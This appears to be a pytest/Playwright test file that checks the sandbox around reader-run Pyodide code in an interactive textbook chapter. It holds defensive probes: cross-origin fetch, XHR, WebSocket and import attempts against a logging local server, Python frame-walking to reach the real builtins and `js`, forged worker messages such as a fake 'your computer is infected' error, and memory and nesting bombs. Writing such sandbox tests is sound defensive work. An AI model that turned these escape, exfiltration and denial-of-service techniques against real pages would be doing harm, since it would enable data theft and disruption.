"""The reader's code, contained (chapter 8's judge, real Pyodide in real Chromium).

- Nothing looks like a verdict before the reader runs anything.
- Code in each worker (the simulations' and the reader's) that tries to reach another origin with
  fetch, a synchronous XHR, a WebSocket, import() or importScripts is refused by the page's own
  Content-Security-Policy, which the workers inherit (they start from blob: URLs). The other
  origin here is a second local server that would answer anyone (CORS *) and logs what reaches it.
- The reader's code, walking its frames to the real builtins and to `js`, reaches only its own
  throwaway worker: its forged reply and forged error put no words of its own in the page and no
  verdict, and its requests are refused.
- A memory bomb and a deeply nested list end only the reader's worker: the page says so, and the
  payments widget on the same page steps on."""
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.support.judge_probe import REAL_BUILTINS
from tests.widgets.conftest import Sim, new_watched_page

CHAPTER = "10-idempotency.html"
JUDGE = "sim-charge-handler"
LONG = 90_000

FRAMES = REAL_BUILTINS + 'js = real_import("js")\n'   # the page's `js`, reached the same way

START = '''\
import uuid

@queue.handler("charge")
def charge(job):
    key = f"order-{job.args['order']}-{uuid.uuid4()}"
    bank.charge("alice", job.args["amount"], idempotency_key=key)
'''

TRY_EVERYTHING = """async (other) => {
  const out = { name: self.name };
  try { const r = await fetch(other + "/fetch"); out.fetch = `fetched ${r.status}`; } catch (e) { out.fetch = "refused"; }
  try { const x = new XMLHttpRequest(); x.open("GET", other + "/xhr", false); x.send(); out.xhr = `sent ${x.status}`; }
  catch (e) { out.xhr = "refused"; }
  out.websocket = await new Promise((resolve) => {
    try {
      const socket = new WebSocket(other.replace("http:", "ws:") + "/websocket");
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("refused");
    } catch (e) { resolve("refused"); }
  });
  try { await import(other + "/import.mjs"); out.import = "imported"; } catch (e) { out.import = "refused"; }
  try { importScripts(other + "/importScripts.js"); out.importScripts = "imported"; } catch (e) { out.importScripts = "refused"; }
  return out;
}"""


class Elsewhere:
    """A second origin that answers anything (CORS *) and remembers every path asked of it."""

    def __init__(self):
        seen = self.seen = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                body = b"export default 1;\n" if self.path.endswith(".mjs") else b"secret"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript" if self.path.endswith("js") else "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


@pytest.fixture(scope="module")
def elsewhere():
    server = Elsewhere()
    yield server
    server.close()


@pytest.fixture(scope="module")
def chapter(browser, real_site, elsewhere):
    """Chapter 8 in a watched page; at the end, nothing but the refusals this module caused."""
    context, page, watch = new_watched_page(browser, real_site)
    page.goto(real_site.at(CHAPTER))
    yield page
    context.close()
    port = elsewhere.url.rsplit(":", 1)[1]
    caused = (port, "Content Security Policy", "Pyodide has suffered a fatal error",
              "The cause of the fatal error", "Maximum call stack size exceeded")
    left = [problem for problem in watch.problems if not any(word in problem for word in caused)]
    assert not left, "the page reported problems:\n" + "\n".join(left)


def editor_text(sim, page, text):
    sim.root.locator(".cm-content").click()
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    # Inserted whole through the editor (CodeMirror's view, found as its findFromDOM finds it), as
    # a paste would: typing would let the editor indent each line again.
    sim.root.locator(".cm-content").evaluate(
        "(content, text) => { const view = content.cmTile.root.view; view.dispatch({changes: {from: 0, to: view.state.doc.length, insert: text}}); }",
        text)


def run(sim, seed=3):
    sim.field("Seed").fill(str(seed))
    sim.button("Run").click()
    expect(sim.part("result")).not_to_contain_text("Running your code", timeout=LONG)
    expect(sim.button("Run")).to_be_enabled(timeout=LONG)
    return sim.part("result")


def workers_named(page, names):
    """The page's workers, once one with each of `names` is running (polled: workers start
    when the page starts them)."""
    for _ in range(600):
        found = {}
        for worker in page.workers:
            try:
                found[worker.evaluate("self.name")] = worker
            except Exception:   # a worker that ended meanwhile
                continue
        if set(names) <= set(found):
            return found
        page.wait_for_timeout(100)
    raise AssertionError(f"no workers named {names}; found {sorted(found)}")


def in_worker(page, name, script, arg):
    """Evaluate `script` in the page's live worker called `name` (the run's own reader worker
    may still be ending when the next one starts: that one is skipped)."""
    for _ in range(20):
        try:
            return workers_named(page, [name])[name].evaluate(script, arg)
        except Exception as error:   # the worker ended between finding it and asking it
            if "closed" not in str(error):
                raise
    raise AssertionError(f"no live worker named {name}")


def test_the_first_frame_shows_no_verdict_before_anything_runs(chapter):
    root = chapter.locator(f"#{JUDGE}")
    result = root.locator('[data-part="result"]')
    expect(result).not_to_contain_text("passed", use_inner_text=True)
    expect(result.locator('[data-passed="true"]')).not_to_be_visible()
    expect(result).to_contain_text("Nothing has run yet", use_inner_text=True)


def test_code_in_every_worker_is_held_to_the_pages_own_origin(chapter, elsewhere):
    judge = Sim(chapter, id=JUDGE).start()
    expect(judge.root.locator(".cm-content")).to_be_visible(timeout=LONG)
    judge.wait("ready", timeout=LONG)
    run(judge)             # after a Run, the next Run's reader worker is started and waits
    for name in ("python", "reader"):
        out = in_worker(chapter, name, TRY_EVERYTHING, elsewhere.url)
        assert out == {"name": name, "fetch": "refused", "xhr": "refused", "websocket": "refused",
                       "import": "refused", "importScripts": "refused"}, out
    assert elsewhere.seen == []


def test_the_readers_code_reaches_only_its_own_throwaway_worker(chapter, elsewhere):
    judge = Sim(chapter, id=JUDGE)
    judge.root.scroll_into_view_if_needed()
    judge.wait("ready", timeout=LONG)
    forged_error = json.dumps({"type": "error", "problem": "python",
                               "message": "FORGED: your computer is infected"})
    forged_reply = json.dumps({"type": "reply", "req": 1, "reply": json.dumps(
        {"ok": True, "result": {"passed": True, "seed": 3, "problems": [], "story": [],
                                "figures": {}, "printed": ["FORGED"]}})})
    attack = FRAMES + f'''\
try:
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", "{elsewhere.url}/from-python", False)
    xhr.send()
    print("xhr sent", xhr.status)
except Exception as error:
    print("xhr refused")
js.fetch("{elsewhere.url}/fetch-from-python")
'''
    # 1. a forged reply to the pending Run: no trace in it, so the judge fails it
    editor_text(judge, chapter, attack + f"js.postMessage(js.JSON.parse({forged_reply!r}))\n" + START)
    result = run(judge)
    expect(result.locator(".judge-verdict")).to_have_text("Failed the audit on seed 3: 1 problem.")
    expect(result).to_contain_text("sent no trace")
    # 2. a forged error: the page says the reader's Python stopped, in the page's own words
    editor_text(judge, chapter, attack + f"js.postMessage(js.JSON.parse({forged_error!r}))\n" + START)
    result = run(judge)
    expect(result.locator(".judge-verdict")).to_have_text("Stopped: your code ended its own Python.")
    for part in ("result", "message", "announce"):      # the editor alone holds the word
        expect(judge.part(part)).not_to_contain_text("FORGED")
    # 3. the same attack, honest reply: its requests were refused, and the flawed handler fails
    editor_text(judge, chapter, attack + START)
    result = run(judge)
    expect(result.locator(".judge-verdict")).to_have_text("Failed the audit on seed 3: 4 problems.")
    expect(result).to_contain_text("xhr refused")
    assert elsewhere.seen == []
    # and nothing of it stayed: the untouched start in a fresh worker fails, the fix passes
    judge.button("Show the chapter’s fix").click()
    result = run(judge)
    expect(result.locator(".judge-verdict")).to_have_text("Passed the audit on seed 3.")


@pytest.mark.parametrize("bomb", ["x = list(range(10 ** 8))\n",
                                  "x = []\nfor _ in range(150_000): x = [x]\nprint(x)\n"])
def test_a_bomb_ends_only_the_readers_worker(chapter, bomb):
    payments = Sim(chapter, "payments").start()
    payments.wait("ready", timeout=LONG)
    # Count the snapshots drawn (drawing.js says each one): read the time once all three are in.
    payments.root.evaluate("root => { root.drawn = 0; root.addEventListener('sim-snapshot', () => { root.drawn += 1; }); }")
    for _ in range(3):
        payments.button("Step").click()
    chapter.wait_for_function("root => root.drawn >= 3", arg=payments.root.element_handle(), timeout=LONG)
    expect(payments.part("time")).not_to_have_text("0 s", timeout=LONG)
    before = payments.part("time").inner_text(), payments.part("log").inner_text()
    judge = Sim(chapter, id=JUDGE)
    judge.root.scroll_into_view_if_needed()
    editor_text(judge, chapter, bomb + START)
    result = run(judge)
    # Out of memory or a fatal error of its Python, or too long: each said in the page's words.
    assert result.locator(".judge-verdict").inner_text() in (
        "Stopped: your code ended its own Python.", "Stopped: your code ran too long.",
        "Your code did not run to the end.")
    expect(payments.part("message")).to_have_text("")
    assert (payments.part("time").inner_text(), payments.part("log").inner_text()) == before
    payments.button("Step").click()
    expect(payments.part("log")).not_to_have_text(before[1], timeout=LONG)
    judge.button("Show the chapter’s fix").click()
    expect(run(judge).locator(".judge-verdict")).to_have_text("Passed the audit on seed 3.")
